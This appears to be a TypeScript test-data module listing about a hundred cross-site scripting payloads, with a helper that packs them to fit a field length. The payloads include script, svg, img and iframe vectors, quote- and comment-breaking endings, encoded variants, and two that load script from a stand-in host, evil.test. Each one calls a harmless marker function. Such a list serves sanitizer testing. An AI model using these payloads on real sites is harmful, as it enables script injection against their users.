// A hundred texts that run a script wherever a text is taken for markup, code, style or an address; our own list.

/** What each of them calls when it runs. */
export const trap = "pwn()";

const elements = [
  "<script>pwn()</script>",
  "<SCRIPT>pwn()</SCRIPT>",
  "<script >pwn()</script >",
  "<scr<script>ipt>pwn()</scr</script>ipt>",
  "<script/x>pwn()</script>",
  "<script\n>pwn()</script>",
  "<script type=module>pwn()</script>",
  "<script src=data:,pwn()></script>",
  "<script src=//evil.test/x.js></script>",
  "<script>/*</script>*/pwn()</script>",
  "<svg onload=pwn()>",
  "<svg/onload=pwn()>",
  "<svg><script>pwn()</script></svg>",
  "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
  "<svg><set onbegin=pwn() attributeName=x>",
  "<svg><a xlink:href=javascript:pwn()><text>x</text></a></svg>",
  "<svg><use href=data:image/svg+xml,pwn()#x></svg>",
  "<svg><foreignObject><img src=x onerror=pwn()>",
  "<math><mi xlink:href=javascript:pwn()>x",
  "<math><mtext><img src=x onerror=pwn()>",
  "<img src=x onerror=pwn()>",
  "<img src=x:x onerror='pwn()'>",
  "<img srcset=x onerror=pwn()>",
  "<img/src/onerror=pwn()>",
  "<image src=x onerror=pwn()>",
  "<video src=x onerror=pwn()>",
  "<video><source onerror=pwn()>",
  "<audio src=x onerror=pwn()>",
  "<body onload=pwn()>",
  "<body onpageshow=pwn()>",
  "<iframe src=javascript:pwn()>",
  "<iframe srcdoc='<script>parent.pwn()</script>'>",
  "<iframe onload=pwn()>",
  "<object data=javascript:pwn()>",
  "<embed src=javascript:pwn()>",
  "<details open ontoggle=pwn()>x</details>",
  "<input autofocus onfocus=pwn()>",
  "<select autofocus onfocus=pwn()>",
  "<textarea autofocus onfocus=pwn()>",
  "<keygen autofocus onfocus=pwn()>",
  "<marquee onstart=pwn()>x",
  "<style onload=pwn()></style>",
  "<link rel=stylesheet href=x onerror=pwn()>",
  "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
  "<base href=//evil.test/>",
  "<form action=javascript:pwn()><input type=submit>",
  "<button formaction=javascript:pwn()>x",
  "<isindex action=javascript:pwn()>",
  "<a href=javascript:pwn()>x</a>",
  "<a href='java\tscript:pwn()'>x</a>",
  "<a href=&#106;avascript:pwn()>x</a>",
  "<a href=data:text/html,<script>pwn()</script>>x</a>",
  "<a onmouseover=pwn() style=position:fixed;inset:0>x",
  "<div onpointerenter=pwn() style=position:fixed;inset:0>",
  "<p style=animation:x onanimationstart=pwn()>",
  "<template><script>pwn()</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
  "<xmp><img src=x onerror=pwn()></xmp>",
  "<plaintext><img src=x onerror=pwn()>",
  "<title><img src=x onerror=pwn()></title>",
];

const endings = [
  "</script><script>pwn()</script>",
  "</SCRIPT ><svg onload=pwn()>",
  "</title><svg onload=pwn()>",
  "</style><svg onload=pwn()>",
  "</textarea><svg onload=pwn()>",
  "--><svg onload=pwn()>",
  "]]><svg onload=pwn()>",
  "*/pwn()/*",
  "';pwn();//",
  '";pwn();//',
  "`;pwn();//",
  "\\';pwn();//",
  '\\";pwn();//',
  "${pwn()}",
  "{{constructor.constructor('pwn()')()}}",
  '"><svg onload=pwn()>',
  "'><svg onload=pwn()>",
  '" onmouseover=pwn() x="',
  "' autofocus onfocus=pwn() x='",
  "` onmouseover=pwn() x=`",
  '"}</script><script>pwn()</script>',
  '","x":pwn(),"y":"',
  "\u2028pwn()//",
  "\u2029pwn()//",
  "<!--<script>pwn()//",
  "<!--><svg onload=pwn()>-->",
  "<![CDATA[<svg onload=pwn()>]]>",
  "<?xml-stylesheet href=javascript:pwn()?>",
  "&lt;script&gt;pwn()&lt;/script&gt;",
  "&#60;img src=x onerror=pwn()&#62;",
  "%3Cscript%3Epwn()%3C/script%3E",
  "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
  "\\x3cimg src=x onerror=pwn()\\x3e",
  "＜script＞pwn()＜/script＞",
  "javascript:pwn()",
  "JaVaScRiPt:pwn()",
  "\u0001javascript:pwn()",
  "javascript:/*--></title></style></textarea></script><svg onload=pwn()>",
  "[x](javascript:pwn())",
  "expression(pwn());background:url(javascript:pwn())",
];

export const payloads: readonly string[] = [...elements, ...endings];

/** The payloads packed into as few texts as fit a field. */
export function packed(most: number): string[] {
  const texts: string[] = [];
  for (const payload of payloads) {
    if (payload.length > most) continue;
    const last = texts.at(-1);
    if (last !== undefined && last.length + payload.length + 1 <= most)
      texts[texts.length - 1] = `${last} ${payload}`;
    else texts.push(payload);
  }
  return texts;
}
